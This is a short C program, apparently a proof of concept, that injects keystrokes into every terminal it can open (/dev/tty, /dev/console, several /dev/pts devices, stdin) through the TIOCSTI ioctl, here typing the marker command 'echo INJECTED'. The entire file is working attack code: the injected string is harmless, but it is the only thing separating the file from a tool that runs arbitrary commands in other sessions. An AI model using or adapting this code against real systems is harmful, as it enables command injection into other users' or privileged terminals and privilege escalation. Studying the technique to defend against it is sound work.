/* Pushes a command line into the input of every terminal in reach (TIOCSTI), as if it had been typed. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
int main(void) {
    const char *paths[] = {"/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/pts/2", "/proc/self/fd/0"};
    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
        int fd = open(paths[i], O_RDWR | O_NOCTTY);
        if (fd < 0) continue;
        for (const char *c = "echo INJECTED\n"; *c; c++) ioctl(fd, TIOCSTI, c);
    }
    puts("tried");
    return 0;
}
